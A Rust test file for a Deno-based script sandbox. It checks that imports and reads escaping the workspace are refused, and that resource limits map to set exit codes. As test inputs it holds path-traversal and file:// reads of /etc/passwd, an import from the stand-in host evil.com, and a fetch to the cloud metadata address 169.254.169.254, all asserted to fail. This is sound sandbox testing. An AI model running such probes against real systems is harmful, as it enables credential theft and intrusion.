//! `run --runtime deno`: the same scripts under Deno, as tightly held, with the same texts and exit codes.

use std::fs;
use std::time::Duration;

use serde_json::Value;

use crate::http::Served;
use crate::live::Live;
use crate::program::{Finished, Workspace};

fn under_deno(workspace: &Workspace, flags: &[&str]) -> Finished {
    let mut all = vec!["-q", "--runtime", "deno"];
    all.extend(flags);
    workspace.run(&all)
}

fn run(script: &str, flags: &[&str]) -> Finished {
    under_deno(&Workspace::with_script(script), flags)
}

#[test]
fn files_outside_of_the_folder_cannot_be_imported() {
    let secret = Workspace::new().with("secret.ts", "export default 'secret';");
    let path = secret.path("secret.ts");
    for (import, refused) in [
        (r#"import text from "/etc/passwd" with { type: "text" };"#.to_owned(), "/etc/passwd"),
        (r#"import text from "../../../../../etc/passwd" with { type: "text" };"#.to_owned(), "etc/passwd"),
        (r#"import text from "file:///etc/passwd" with { type: "bytes" };"#.to_owned(), "/etc/passwd"),
        (format!("import text from {:?};", path.to_str().unwrap()), "secret.ts"),
        (format!("import text from \"file://{}\";", path.display()), "secret.ts"),
        (r#"import text from "https://evil.com/x.ts";"#.to_owned(), "evil.com"),
        (r#"import text from "npm:chalk";"#.to_owned(), "npm:chalk"),
        (r#"import { readFileSync as text } from "node:fs";"#.to_owned(), "node:fs"),
    ] {
        let finished = run(&format!("{import}\nconsole.log(text);\n"), &[]).expect_code(1);
        assert_eq!(finished.stdout, "");
        assert!(finished.stderr.contains(refused), "{import}: {}", finished.stderr);
        assert!(!finished.stderr.contains("root:"), "{import}: {}", finished.stderr);
    }
}

#[test]
fn a_link_out_of_the_folder_is_refused() {
    let workspace = Workspace::with_script("import text from './link.json' with { type: 'json' }; console.log(text);");
    let elsewhere = Workspace::new().with("secret.json", "{}");
    std::os::unix::fs::symlink(elsewhere.path("secret.json"), workspace.path("link.json")).unwrap();
    let finished = under_deno(&workspace, &[]).expect_code(1);
    assert!(finished.stderr.contains("link.json"), "{}", finished.stderr);
}

#[test]
fn what_deno_gives_away_by_itself_is_not_there() {
    let script = r#"
        const tries: Record<string, () => unknown> = {
          env: () => Deno.env.get("PATH"),
          allEnv: () => Deno.env.toObject(),
          localStorage: () => localStorage.setItem("a", "b"),
          caches: () => caches.open("x"),
          hostname: () => Deno.hostname(),
          computed: () => import("file://" + "/etc/passwd"),
          byOtherName: () => fetch("http://localhost:1/health"),
          elsewhere: () => fetch("http://169.254.169.254/latest/meta-data"),
          socket: () => new WebSocket("ws://localhost:9003"),
          command: () => new Deno.Command("ls").output(),
          kv: () => (Deno as any).openKv(),
        };
        for (const [name, attempt] of Object.entries(tries)) {
          try {
            const found = await attempt();
            if (name === "socket") await new Promise((_, no) => (found as WebSocket).onerror = () => no(new Error("closed")));
            console.log(name, "IS POSSIBLE", found);
          } catch (error: any) {
            console.log(name, error.constructor.name);
          }
        }"#;
    let printed = run(script, &[]).expect_code(0).stdout;
    assert!(!printed.contains("POSSIBLE"), "{printed}");
    assert_eq!(printed.lines().count(), 11, "{printed}");
}

#[test]
fn memory_that_v8_does_not_count_is_bounded_too() {
    let script = "
        const kept = [];
        while (true) kept.push(new Uint8Array(8 << 20).fill(1));";
    let finished = run(script, &["--timeout", "50s"]).expect_code(123);
    assert!(finished.stderr.contains("--memory"), "{}", finished.stderr);
    let heap = "const kept = []; while (true) kept.push({ a: [Math.random()] });";
    run(heap, &["--timeout", "50s"]).expect_code(123);
}

#[test]
fn each_limit_has_the_exit_code_that_it_has_in_wasm() {
    for (script, flags, code, flag) in [
        ("while (true) {}", &["--timeout", "500ms"] as &[&str], 124, "--timeout"),
        ("await new Promise((resolve) => setTimeout(resolve, 1e9));", &["--timeout", "500ms"], 124, "--timeout"),
        ("while (true) {}", &["--fuel", "1000000000"], 122, "--fuel"),
        ("Deno.exit(7);", &[], 7, ""),
        ("throw new Error('no');", &[], 1, "Uncaught (in promise) Error: no"),
    ] {
        let finished = run(script, flags).expect_code(code);
        assert!(finished.stderr.contains(flag), "{script}: {}", finished.stderr);
    }
}

#[test]
fn the_usual_address_is_the_server_of_the_run() {
    // Something else listens where scripts believe the server to be, or nothing does: it makes no difference.
    let script = r#"
        const answer = await fetch("http://localhost:9003/metrics/percentile?service=payments&p=0.99");
        console.log(answer.status, await answer.json());
        const posted = await fetch(new URL("http://localhost:9003/emit"), {
          method: "POST",
          body: JSON.stringify({ name: "raw", data: { a: 1 }, severity: "warning" }),
        });
        console.log(await posted.text());"#;
    let workspace = Workspace::with_script(script);
    let finished = under_deno(&workspace, &["--emit-to", "events.jsonl"]).expect_code(0);
    assert_eq!(finished.stdout, "200 { value: 650000000 }\n{\"status\":\"ok\"}\n\n");
    let event: Value = serde_json::from_str(&workspace.read("events.jsonl")).unwrap();
    assert_eq!((&event["name"], &event["script"], &event["data"]["a"]), (&"raw".into(), &"script".into(), &1.into()));
}

#[test]
fn the_server_of_a_run_answers_its_script_alone() {
    let script = r#"console.log("ready"); await new Promise((resolve) => setTimeout(resolve, 1e9));"#;
    let workspace = Workspace::with_script(script);
    let port = free_port();
    let address = format!("localhost:{port}");
    let live = Live::start(workspace.run_command(&["-q", "--runtime", "deno", "--listen", &address]));
    live.wait_for("ready");
    let answer = crate::http::get(port, "/metrics/percentile?service=payments&p=0.5", "Authorization: Bearer guess");
    assert_eq!(answer.status, 401, "{answer:?}");
    let answer = crate::http::get(port, "/metrics/percentile?service=payments&p=0.5", "Accept: */*");
    assert_eq!(answer.status, 401, "{answer:?}");
    live.signal("INT");
    live.finish().0.expect_code(130);
}

fn free_port() -> u16 {
    std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap().local_addr().unwrap().port()
}

#[test]
fn a_port_that_is_taken_is_said() {
    let served = Served::start(&[]);
    let finished = run("1;", &["--listen", &format!("localhost:{}", served.port)]).expect_code(1);
    assert!(finished.stderr.contains("is taken by another program"), "{}", finished.stderr);
}

#[test]
fn a_run_for_one_service_may_ask_about_no_other() {
    let script = r#"
        import * as coral from "jsr:@coral/sdk";
        console.log(coral.context.scope, coral.context.service?.name);
        console.log(await coral.getErrorRate("payments"));
        for (const ask of [() => coral.getErrorRate("orders"), () => coral.db.query("SELECT 1")]) {
          try { console.log(await ask()); } catch (error: any) { console.log(error.code, error.message); }
        }"#;
    let workspace = Workspace::with_script(script);
    let [wasm, deno] = ["wasm", "deno"].map(|runtime| {
        let flags = ["-q", "--runtime", runtime, "--service", "payments"];
        workspace.run(&flags).expect_code(0).stdout
    });
    assert!(wasm.starts_with("service payments\n0.4\ndenied Failed to get error rate: this run may ask"), "{wasm}");
    assert_eq!(wasm, deno);
}

#[test]
fn a_query_ends_with_its_run() {
    let script = r#"
        import { db } from "jsr:@coral/sdk";
        const endless = db.query("SELECT sum(range % 7) FROM range(1000000000000000)");
        console.log("asked");
        await endless;"#;
    let workspace = Workspace::with_script(script);
    let live = Live::start(workspace.run_command(&["--runtime", "deno", "--timeout", "none"]));
    live.wait_for("asked");
    live.signal("TERM");
    let (finished, took) = live.finish();
    finished.expect_code(143);
    assert!(took < Duration::from_secs(20), "{took:?}");
}

#[test]
fn nothing_of_a_run_stays_behind() {
    let workspace = Workspace::with_script("console.log(import.meta.url);");
    let folder = workspace.path("temporary");
    fs::create_dir(&folder).unwrap();
    let mut command = workspace.run_command(&["-q", "--runtime", "deno"]);
    command.env("TMPDIR", &folder);
    Finished::of(command).expect_code(0);
    assert_eq!(fs::read_dir(&folder).unwrap().count(), 0);
}

#[test]
fn a_deno_that_is_none_is_refused_with_the_remedy() {
    let missing = run("1;", &["--deno", "/nowhere/deno"]).expect_code(1);
    assert!(missing.stderr.starts_with("error: /nowhere/deno is not a Deno that can be run"), "{}", missing.stderr);
    let other = run("1;", &["--deno", "/bin/true"]).expect_code(1);
    assert!(other.stderr.contains("does not tell a version"), "{}", other.stderr);
}

#[test]
fn what_deno_cannot_be_held_to_is_said_at_the_start() {
    let finished = Workspace::with_script("1;").run(&["--runtime", "deno"]).expect_code(0);
    assert!(finished.stderr.starts_with("note: Deno counts no fuel"), "{}", finished.stderr);
}

#[test]
fn the_report_is_that_of_any_run() {
    let script = "import { db, emit } from 'jsr:@coral/sdk'; await db.query('SELECT range FROM range(3)');
        await emit('seen', { a: 1 }); console.log('out'); console.error('err'); throw new TypeError('bad');";
    let finished = Workspace::with_script(script).run(&["--runtime", "deno", "-o", "json"]).expect_code(1);
    let report: Value = serde_json::from_str(&finished.stdout).unwrap();
    assert_eq!((&report["ending"], &report["exit_code"]), (&"exception".into(), &1.into()));
    assert_eq!(report["error"]["message"], "Uncaught (in promise) TypeError: bad");
    assert!(report["error"]["frames"][0]["file"].as_str().unwrap().ends_with("script.ts"), "{report}");
    assert_eq!(report["error"]["frames"][0]["line"], 2);
    assert_eq!((&report["usage"]["rows"], &report["usage"]["events"]), (&3.into(), &1.into()));
    assert_eq!(report["events"][0]["name"], "seen");
    let lines: Vec<_> = report["logs"]["lines"].as_array().unwrap().iter().map(|line| &line["text"]).collect();
    assert!(lines.contains(&&"out".into()) && lines.contains(&&"err".into()), "{report}");
}
